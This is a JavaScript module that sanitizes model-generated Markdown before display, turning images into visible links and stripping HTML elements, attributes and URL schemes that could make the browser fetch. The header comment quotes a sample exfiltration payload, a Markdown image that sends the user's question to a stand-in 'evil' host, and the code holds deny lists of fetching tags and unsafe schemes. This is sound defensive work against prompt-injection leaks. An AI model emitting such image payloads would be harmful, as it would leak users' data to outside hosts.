// Markdown from the model, made safe to show. The text comes from strangers (indexed
// documents, and a model that read them), so nothing in it may make the browser send a
// request by itself: an image is the classic leak (`![](https://evil/?q=<the question>)`,
// also written reference-style or HTML-encoded).
// - HTML written in the text is shown as text, not parsed.
// - Every image becomes a visible link ("Image: alt (host)") the reader may open, or plain
//   text when its address is not http(s); marked resolves reference-style images and
//   decodes entities first, so every spelling reaches this one renderer.
// - DOMPurify then cleans what marked produced, with the elements and attributes that
//   can fetch forbidden, and a hook on every link: `javascript:`, `data:`, `vbscript:`
//   and other schemes lose their href (the text stays), the rest open in a new tab with
//   rel="noopener noreferrer".
// The page's Content-Security-Policy (images from our origin and data: only) backs this up.
import { Marked } from "./vendor/marked.js";
import DOMPurify from "./vendor/purify.js";

function asText(html) {
  const box = document.createElement("div");
  box.textContent = html;
  return box.innerHTML;
}

function hostOf(href) {
  try {
    return new URL(href, document.baseURI).host;
  } catch {
    return "";
  }
}

function imageAsLink({ href, text }) {
  const label = `Image: ${text || "untitled"}`;
  if (!/^https?:\/\//i.test(href.trim())) return asText(`[${label}]`);
  const host = hostOf(href);
  return `<a class="image-link" href="${asText(href)}">${asText(label)}${host ? ` (${asText(host)})` : ""}</a>`;
}

const markdown = new Marked({
  renderer: { html: ({ text }) => asText(text), image: imageAsLink },
});

const SAFE_HREF = /^(https?:\/\/|mailto:|#|\/(?!\/))/i;

DOMPurify.addHook("afterSanitizeAttributes", (node) => {
  if (node.tagName !== "A") return;
  const href = (node.getAttribute("href") || "").trim();
  if (!SAFE_HREF.test(href)) {
    node.removeAttribute("href");
  } else if (!href.startsWith("#")) {
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
  }
});

const FETCHING_TAGS = ["img", "image", "svg", "video", "audio", "source", "picture", "track",
  "iframe", "frame", "object", "embed", "link", "style", "form", "input", "button", "meta",
  "base"];
const FETCHING_ATTRS = ["style", "srcset", "src", "background", "poster", "ping", "action",
  "formaction", "xlink:href", "data"];

/** `text` rendered to sanitized HTML, ready for innerHTML. */
export function renderMarkdown(text) {
  return DOMPurify.sanitize(markdown.parse(text, { async: false }), {
    FORBID_TAGS: FETCHING_TAGS,
    FORBID_ATTR: FETCHING_ATTRS,
    ADD_ATTR: ["target"],
  });
}
